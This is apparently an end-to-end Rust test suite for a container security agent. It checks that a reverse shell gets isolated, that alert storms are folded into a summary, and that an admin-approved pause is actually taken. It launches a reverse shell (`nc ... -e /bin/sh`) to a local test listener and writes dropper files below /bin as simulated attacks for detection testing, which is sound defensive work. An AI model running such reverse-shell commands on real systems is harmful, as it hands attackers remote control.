//! Automated response end to end (root, runc, the real sensor; CI runs as root): a busybox workload is
//! learned and put in protect mode; `kestrel detect --live --respond` runs with a policy that isolates
//! reverse shells; a reverse shell (`nc -e /bin/sh`) to a listener on the host starts in a container. The
//! shell's connection must go dead, the container must lose its network while the host keeps its own, the
//! audit log must say what was done, and `kestrel respond undo` must give the network back. And a storm of alerts
//! live: folded into a summary sent while the agent runs. And an action that waits for a person, approved on the
//! fleet server and taken by the agent.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn kestrel() -> PathBuf {
    assert_cmd::cargo::cargo_bin("kestrel")
}

fn lab_lib() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lab/lib.sh")
}

/// Runs `script` with the lab's helpers, its containers under the lab's usual cgroup parent.
fn bash(dir: &Path, script: &str) {
    bash_under(dir, LAB_PARENT, script)
}

/// The lab's cgroup parent when none is given (lab/lib.sh).
const LAB_PARENT: &str = "kestrel-lab";

/// Runs `script` with the lab's helpers, its containers under the cgroup `parent`.
fn bash_under(dir: &Path, parent: &str, script: &str) {
    let log = dir.join("bash.log");
    let ok = Command::new("bash")
        .arg("-c")
        .arg(format!("set -e; source {}; {script}", lab_lib().display()))
        .env("LAB_DIR", dir.join("lab"))
        .env("LAB_PARENT", parent)
        .env("KESTREL", kestrel())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .status()
        .unwrap()
        .success();
    assert!(ok, "{script}: {}", std::fs::read_to_string(&log).unwrap_or_default());
}

/// A busybox container of the lab (`make_bundle`, `start`), stopped when dropped.
struct Container {
    dir: PathBuf,
    parent: String,
    name: String,
}

impl Container {
    fn start(dir: &Path, parent: &str, name: &str) -> Container {
        bash_under(dir, parent, &format!("make_bundle {name} busybox; start {name}"));
        Container { dir: dir.to_path_buf(), parent: parent.to_string(), name: name.to_string() }
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = Command::new("bash")
            .arg("-c")
            .arg(format!("source {}; stop {}", lab_lib().display(), self.name))
            .env("LAB_DIR", self.dir.join("lab"))
            .env("LAB_PARENT", &self.parent)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// Waits until `kestrel detect --live` says it is watching (its log), at most `secs`.
fn wait_watching(log: &Path, secs: u64) {
    let t0 = Instant::now();
    while !std::fs::read_to_string(log).unwrap_or_default().contains("watching") {
        assert!(t0.elapsed() < Duration::from_secs(secs), "{}", std::fs::read_to_string(log).unwrap_or_default());
        std::thread::sleep(Duration::from_millis(100));
    }
}

struct Detect(Child);
impl Drop for Detect {
    fn drop(&mut self) {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.0.id() as i32, libc::SIGINT) };
        let _ = self.0.wait();
    }
}

/// `kestrel detect --live` on the runc containers under `parent`, as `workload` with the profiles in `DIR/profiles`,
/// responding by `policy` (written to a file) with its audit log in `DIR/audit.jsonl`, `extra` arguments added; its
/// alerts go to `DIR/alerts.jsonl`, its log to `DIR/detect.log`. Returns once it watches: the running agent (stopped
/// when dropped), the audit log and its log.
fn responding(d: &Path, parent: &str, workload: &str, policy: &str, extra: &[&str]) -> (Detect, PathBuf, PathBuf) {
    let file = d.join("policy.yaml");
    std::fs::write(&file, policy).unwrap();
    let (audit, log) = (d.join("audit.jsonl"), d.join("detect.log"));
    let child = Command::new(kestrel())
        .args(["detect", "--live", "--runc-parent", parent, "--workload", workload, "-f", "json", "--profiles"])
        .arg(d.join("profiles"))
        .arg("--respond")
        .arg(&file)
        .arg("--audit")
        .arg(&audit)
        .args(extra)
        .stdout(std::fs::File::create(d.join("alerts.jsonl")).unwrap())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let detect = Detect(child);
    wait_watching(&log, 30);
    (detect, audit, log)
}

/// Whether `runc exec` of an `nc` to the port gets through from the container.
fn container_reaches(name: &str, port: u16, hits: &AtomicUsize) -> bool {
    let before = hits.load(Ordering::SeqCst);
    let _ = Command::new("runc")
        .args(["exec", name, "/bin/sh", "-c", &format!("echo hi | nc -w 1 127.0.0.1 {port}")])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    std::thread::sleep(Duration::from_millis(200));
    hits.load(Ordering::SeqCst) > before
}

#[test]
fn a_reverse_shell_in_protect_mode_is_cut_off_and_undo_restores_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let lab = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lab");
    // Learn the workload and put it in protect mode.
    let learn = d.join("learn.jsonl.zst");
    bash(d, &format!("bash {}/normal.sh busybox 2 8 {}", lab.display(), learn.display()));
    let profiles = d.join("profiles");
    let ok = Command::new(kestrel())
        .args(["learn", "-q", "--workload", "busybox", "--mode", "protect", "--profiles"])
        .arg(&profiles)
        .arg(&learn)
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let policy = "dry_run: false\nrules:\n  - name: cut reverse shells\n    when: {rules: [\"Reverse shell\", \"Network tool running a program\"]}\n    actions: [isolate]\n";
    let (_detect, audit, log) = responding(d, LAB_PARENT, "busybox", policy, &[]);

    // The attacker's listener: it reads what the shell answers to `echo alive` every 100 ms.
    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
    let attacker_port = attacker.local_addr().unwrap().port();
    let answers = Arc::new(AtomicUsize::new(0));
    let seen = answers.clone();
    std::thread::spawn(move || {
        let (s, _) = attacker.accept().unwrap();
        let mut w = s.try_clone().unwrap();
        std::thread::spawn(move || loop {
            if w.write_all(b"echo alive\n").is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        });
        for line in BufReader::new(s).lines() {
            match line {
                Ok(l) if l.contains("alive") => {
                    seen.fetch_add(1, Ordering::SeqCst);
                }
                Ok(_) => {}
                Err(_) => break,
            }
        }
    });
    // A probe listener: can the container (or the host) reach the host at all?
    let probe = TcpListener::bind("127.0.0.1:0").unwrap();
    let probe_port = probe.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for s in probe.incoming().flatten() {
            h.fetch_add(1, Ordering::SeqCst);
            let mut s = s;
            let _ = s.set_read_timeout(Some(Duration::from_millis(100)));
            let _ = s.read(&mut [0u8; 16]);
        }
    });

    let name = format!("respond-e2e-{}", std::process::id());
    let _container = Container::start(d, LAB_PARENT, &name);
    assert!(container_reaches(&name, probe_port, &hits), "the container cannot reach the host before the attack");

    // The reverse shell.
    Command::new("runc")
        .args(["exec", "-d", &name, "/bin/nc", "127.0.0.1", &attacker_port.to_string(), "-e", "/bin/sh"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    // The audit log records the isolation, verified.
    let t0 = Instant::now();
    let acted = loop {
        let text = std::fs::read_to_string(&audit).unwrap_or_default();
        if let Some(l) = text.lines().find(|l| l.contains("\"outcome\":\"acted\"")) {
            break serde_json::from_str::<serde_json::Value>(l).unwrap();
        }
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "no isolation recorded: {text}\n{}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(acted["action"], "isolate");
    assert!(acted["detail"].as_str().unwrap().contains("network cut"), "{acted}");
    assert!(acted["evidence"]["processes"].as_array().is_some_and(|p| !p.is_empty()), "{acted}");
    let id = acted["id"].as_str().unwrap().to_string();

    // The shell's connection is dead: no answer arrives any more.
    std::thread::sleep(Duration::from_millis(300));
    let before = answers.load(Ordering::SeqCst);
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(answers.load(Ordering::SeqCst), before, "the reverse shell still answers");
    // The container cannot reach the host; the host itself still can.
    assert!(!container_reaches(&name, probe_port, &hits), "the isolated container still reaches the host");
    let before = hits.load(Ordering::SeqCst);
    TcpStream::connect(("127.0.0.1", probe_port)).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    assert!(hits.load(Ordering::SeqCst) > before, "the host lost its network");

    // Undo: the container reaches the host again; the log says so.
    let out = Command::new(kestrel()).args(["respond", "undo", &id, "--audit"]).arg(&audit).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(container_reaches(&name, probe_port, &hits), "undo did not restore the network");
    let out = Command::new(kestrel()).args(["respond", "list", "-f", "json", "--audit"]).arg(&audit).output().unwrap();
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(list.as_array().unwrap().iter().any(|d| d["id"] == id.as_str() && d["outcome"] == "undone"), "{list:#}");
}

/// Folding live: a storm of one rule's alerts in a container goes out as its first three and, once the window has
/// closed, one summary — sent while the agent runs, though the container does nothing more (a summary due then
/// waited for the next event, and in the output's buffer for the next alert). The container lives under a cgroup
/// parent of the test's own, so no other test's container makes an event that would bring it out.
#[test]
fn a_storm_is_summarised_live_when_its_window_closes() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let parent = format!("kestrel-fold-{}", std::process::id());
    let name = format!("fold-{}", std::process::id());
    let _container = Container::start(d, &parent, &name);
    let alerts = d.join("alerts.jsonl");
    let log = d.join("detect.log");
    let child = Command::new(kestrel())
        .args(["detect", "--live", "--runc-parent", &parent, "--no-profiles", "-f", "json"])
        .args(["--fold-after", "3", "--fold-window", "2", "--audit"])
        .arg(d.join("audit.jsonl"))
        .stdout(std::fs::File::create(&alerts).unwrap())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let mut detect = Detect(child);
    wait_watching(&log, 30);
    let runc = |args: &[&str]| {
        Command::new("runc")
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap()
    };
    // Twenty writes below /bin: twenty alerts of one rule within a second.
    assert!(runc(&["exec", &name, "/bin/sh", "-c", "for i in $(seq 20); do echo x > /bin/dropped$i; done"]).success());
    // Then the container is quiet: no event comes to bring the summary out.
    let lines = || -> Vec<serde_json::Value> {
        std::fs::read_to_string(&alerts)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    };
    let t0 = Instant::now();
    let summary = loop {
        if let Some(s) = lines().into_iter().find(|a| a.get("folded").is_some()) {
            break s;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "no summary while the agent runs: {:#?}\n{}",
            lines(),
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(detect.0.try_wait().unwrap().is_none(), "the summary came only as the agent ended");
    let rule = |a: &serde_json::Value| a["source"]["name"] == "Write below a binary directory";
    assert!(rule(&summary), "{summary:#}");
    let sent = lines().iter().filter(|a| rule(a) && a.get("folded").is_none()).count();
    assert_eq!(sent, 3, "{:#?}", lines());
    assert_eq!(summary["folded"]["count"], 17, "{summary:#}");
    assert_eq!(summary["container"]["id"], name.as_str());
}

/// An action that waits for a person, end to end: the live agent ships its pending decision to the fleet server, an
/// admin approves it there, and the agent pauses the container — though the container has done nothing since (the
/// agent fetched verdicts only when an event came, so a quiet container was never paused).
#[test]
fn an_action_approved_on_the_server_is_taken_though_the_container_is_quiet() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (_server, base, tokens) = common::start_server(d);
    let (agent, admin) = (&tokens[1], &tokens[5]);
    let parent = format!("kestrel-approve-{}", std::process::id());
    let name = format!("approve-{}", std::process::id());
    let _container = Container::start(d, &parent, &name);
    let runc =
        |args: &[&str]| Command::new("runc").args(args).stdin(Stdio::null()).stderr(Stdio::null()).output().unwrap();
    // The workload learned for a moment, live, and protected: only then may the response engine act.
    let profiles = d.join("profiles");
    let learned = d.join("learn.log");
    let learn = Command::new(kestrel())
        .args(["learn", "--live", "--duration", "3", "--runc-parent", &parent, "--workload", "quiet"])
        .args(["--mode", "protect", "--profiles"])
        .arg(&profiles)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&learned).unwrap())
        .spawn()
        .unwrap();
    let mut learn = Detect(learn);
    wait_watching(&learned, 30);
    assert!(runc(&["exec", &name, "/bin/ls", "/"]).status.success());
    assert!(learn.0.wait().unwrap().success());
    assert!(profiles.is_dir(), "nothing learned: {}", std::fs::read_to_string(&learned).unwrap_or_default());
    let policy = "dry_run: false\nrules:\n  - name: freeze droppers\n    when: {rules: [\"Write below a binary directory\"]}\n    actions: [pause]\n    approval: true\n";
    let spool = d.join("spool");
    let ship = ["--server", &base, "--server-token", agent, "--node", "node-1", "--spool", spool.to_str().unwrap()];
    let (_detect, audit, log) = responding(d, &parent, "quiet", policy, &ship);
    // One write below /bin, then nothing.
    assert!(runc(&["exec", &name, "/bin/sh", "-c", "echo x > /bin/dropped"]).status.success());
    let t0 = Instant::now();
    let id = loop {
        let pending = common::get(&base, "/api/v1/approvals", admin);
        if let Some(id) = pending["items"][0]["decision"]["id"].as_str() {
            break id.to_string();
        }
        assert!(
            t0.elapsed() < Duration::from_secs(15),
            "no decision waits on the server: {pending}\n{}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(id.ends_with("pause"), "{id}");
    // Frozen or not, as the container's cgroup (v2, on its own or beside v1) says.
    let cgroup = ["/sys/fs/cgroup", "/sys/fs/cgroup/unified"]
        .iter()
        .map(|root| Path::new(root).join(&parent).join(&name))
        .find(|p| p.join("cgroup.events").exists())
        .expect("the container's cgroup");
    let frozen = || std::fs::read_to_string(cgroup.join("cgroup.events")).unwrap().contains("frozen 1");
    assert!(!frozen(), "frozen before the approval");
    let path = format!("{base}/api/v1/approvals/node-1/{}", id.replace('/', "%2F"));
    let resp = ureq::post(&path)
        .header("Authorization", format!("Bearer {admin}"))
        .send_json(serde_json::json!({"verdict": "approve", "reason": "confirmed dropper"}))
        .unwrap();
    assert_eq!(resp.status().as_u16(), 201);
    let approved = Instant::now();
    while !frozen() {
        assert!(
            approved.elapsed() < Duration::from_secs(10),
            "the approved pause was not taken: {}\n{}",
            std::fs::read_to_string(&audit).unwrap_or_default(),
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let text = std::fs::read_to_string(&audit).unwrap();
    assert!(
        text.lines().any(|l| l.contains(&format!("\"id\":\"{id}\"")) && l.contains("\"outcome\":\"acted\"")),
        "{text}"
    );
    // Undo thaws it.
    let out = Command::new(kestrel()).args(["respond", "undo", &id, "--audit"]).arg(&audit).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!frozen(), "undo did not thaw the container");
}
